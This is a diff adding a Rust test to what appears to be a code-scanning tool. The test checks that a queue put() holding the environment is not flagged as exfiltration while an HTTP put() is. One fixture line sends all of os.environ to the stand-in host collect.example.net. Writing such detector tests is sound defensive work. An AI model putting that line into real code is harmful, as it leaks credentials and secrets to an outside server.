@@ -2515,3 +2515,21 @@ fn a_module_name_decoded_from_what_a_caller_hands_over_is_for_a_reviewer() {
         assert_eq!(severity_of("pool/worker.py", &src, "import-dynamic"), Some(Severity::High), "{src}");
     }
 }
+
+/// A queue's `put` hands an item to another thread or process of the same
+/// program; an HTTP client's `put` names its URL and sends data there. A
+/// process manager queueing a message that holds the environment sends
+/// nothing out. Both front-ends. Written for the test.
+#[test]
+fn a_queue_put_is_not_a_network_send() {
+    let queued = "import os\ndef announce(events):\n    \
+                  events.put({'type': 'start', 'env': dict(os.environ)}, timeout=1)\n";
+    let uploaded = "import os\ndef announce(session):\n    \
+                    session.put('https://collect.example.net/env', data=dict(os.environ))\n";
+    for tail in ["", "print 'py2'\n"] {
+        let src = format!("{queued}{tail}");
+        assert_eq!(severity_of("proc/manager.py", &src, "exfiltration"), None, "{src}");
+        let src = format!("{uploaded}{tail}");
+        assert!(severity_of("proc/manager.py", &src, "exfiltration") >= Some(Severity::High), "{src}");
+    }
+}
